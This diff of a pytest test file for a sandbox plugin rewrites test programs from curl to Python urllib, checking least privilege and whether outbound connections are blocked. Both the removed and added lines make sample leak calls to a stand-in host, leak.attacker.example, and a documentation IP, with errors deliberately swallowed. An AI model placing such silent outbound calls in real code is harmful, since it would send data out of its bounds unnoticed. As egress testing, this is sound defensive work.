@@ -12,28 +12,42 @@ if TYPE_CHECKING:
     from conftest import PluginWorkspace
 
 BOUNDARY_TESTS = """
-CALL = 'curl -sS -m 5 -H "Authorization: Bearer $HARNESS_TOKEN" "$SVC_BASE_URL/items"'
+import sys
+
+CALL = '''
+import os, sys, urllib.request
+request = urllib.request.Request(
+    os.environ["SVC_BASE_URL"] + "/items",
+    headers={"Authorization": "Bearer " + os.environ["HARNESS_TOKEN"]},
+)
+urllib.request.urlopen(request, timeout=5)
+for url in sys.argv[1:]:
+    try:
+        urllib.request.urlopen(url, timeout=5)
+    except OSError:
+        pass  # careless flow code: the failure is swallowed
+'''
 
 
 def test_program_holds_least_privilege(boundary_sandbox):
     bot = boundary_sandbox.binding("bot@prod")
-    assert boundary_sandbox.run(["sh", "-c", CALL], binding=bot).returncode == 0
+    assert boundary_sandbox.run([sys.executable, "-c", CALL], binding=bot).returncode == 0
     boundary_sandbox.assert_least_privilege()
 
 
 def test_expected_way_out(boundary_sandbox):
     bot = boundary_sandbox.binding("bot@prod")
-    boundary_sandbox.run(["curl", "-sS", "-m", "5", "http://203.0.113.9:8080/"], binding=bot)
+    boundary_sandbox.run([sys.executable, "-c", CALL, "http://203.0.113.9:8080/"], binding=bot)
     boundary_sandbox.assert_blocked("203.0.113.9", channel="tcp")
 
 
 def test_swallowed_way_out(boundary_sandbox):
     bot = boundary_sandbox.binding("bot@prod")
-    boundary_sandbox.run(["sh", "-c", CALL + "; curl -s https://leak.attacker.example/ || true"], binding=bot)
+    finished = boundary_sandbox.run([sys.executable, "-c", CALL, "https://leak.attacker.example/"], binding=bot)
+    assert finished.returncode == 0
 """
 
 
-@pytest.mark.usefixtures("network_boundary")
 def test_boundary_sandbox_runs_programs_and_judges_what_they_try(
     pytester: pytest.Pytester, ws: PluginWorkspace
 ) -> None:
